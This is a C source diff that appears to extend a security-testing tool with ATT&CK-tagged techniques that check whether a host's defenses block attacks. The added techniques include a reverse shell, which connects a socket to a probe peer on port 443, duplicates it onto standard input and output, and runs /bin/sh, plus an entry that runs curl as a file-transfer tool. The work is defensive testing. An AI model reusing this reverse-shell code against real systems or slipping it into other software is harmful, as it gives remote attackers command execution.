@@ -6,12 +6,19 @@
 #include <fcntl.h>
 #include <stdio.h>
 #include <unistd.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
 #include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/sendfile.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 
+#include "network.h"
 #include "technique.h"
+
+/* Where servers listen. */
+#define HTTPS 443
 
 static int drop_program(struct fng_case *c)
 {
@@ -124,6 +131,54 @@ static int execute_held(void *data)
 	return fng_act_execute(((struct fng_case *)data)->fd);
 }
 
+static int hold_socket(struct fng_case *c)
+{
+	int err = fng_probe_make_peer(AF_INET, HTTPS);
+
+	c->fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+	return err ?: c->fd < 0 ? errno : 0;
+}
+
+static int connect_to_peer(int fd)
+{
+	struct sockaddr_in address = {
+		.sin_family = AF_INET,
+		.sin_port = htons(HTTPS),
+	};
+
+	inet_pton(AF_INET, FNG_PROBE_V4, &address.sin_addr);
+	return fng_act_call(
+		connect(fd, (struct sockaddr *)&address, sizeof(address)));
+}
+
+/* Somebody at the other end types what it executes. */
+static int hold_connection(struct fng_case *c)
+{
+	return hold_socket(c) ?: connect_to_peer(c->fd);
+}
+
+static int execute_connected(void *data)
+{
+	const struct fng_case *c = data;
+
+	for (int fd = STDIN_FILENO; fd <= STDERR_FILENO; fd++)
+		if (dup2(c->fd, fd) < 0)
+			return errno;
+	return execute_words(data);
+}
+
+static int run_connected(struct fng_case *c)
+{
+	return fng_act_apart(execute_connected, c);
+}
+
+/* The connection is tried while it is guarded, and nobody is there to type. */
+static int connect_and_run(struct fng_case *c)
+{
+	connect_to_peer(c->fd);
+	return run(c);
+}
+
 static int run_held(struct fng_case *c)
 {
 	return fng_act_apart(execute_held, c);
@@ -147,6 +202,7 @@ static int run_link(struct fng_case *c)
 static const char *const program[] = { "./program", NULL };
 static const char *const script[] = { "./script", NULL };
 static const char *const shell[] = { "/bin/sh", "-c", "exit 0", NULL };
+static const char *const transfer[] = { "/usr/bin/curl", "--version", NULL };
 static const char *const deployed[] = { "/bin/sh", NULL };
 static const char *const linked[] = { "./program", "-c", "exit 0", NULL };
 static const char *const loader[] = { "/lib64/ld-linux-x86-64.so.2",
@@ -164,6 +220,15 @@ const struct fng_technique fng_techniques_code[] = {
 	  drop_interpreter, run, script, &fng_remedy_exec },
 	{ "shell", FNG_THREAT_CODE, "T1059.004",
 	  "execute the shell of the host", NULL, run, shell, &fng_remedy_exec },
+	{ "reverse-shell", FNG_THREAT_CODE, "T1059.004",
+	  "execute the shell of the host on a connection", hold_connection,
+	  run_connected, shell, &fng_remedy_exec },
+	{ "connect-and-shell", FNG_THREAT_CODE, "T1059.004",
+	  "connect, and execute the shell of the host", hold_socket,
+	  connect_and_run, shell, &fng_remedy_exec },
+	{ "transfer-tool", FNG_THREAT_CODE, "T1105",
+	  "execute a program that fetches files", NULL, run, transfer,
+	  &fng_remedy_exec },
 	{ "shell-by-link", FNG_THREAT_CODE, "T1036",
 	  "execute the shell through a symbolic link of another name",
 	  link_shell, run, linked, &fng_remedy_exec },
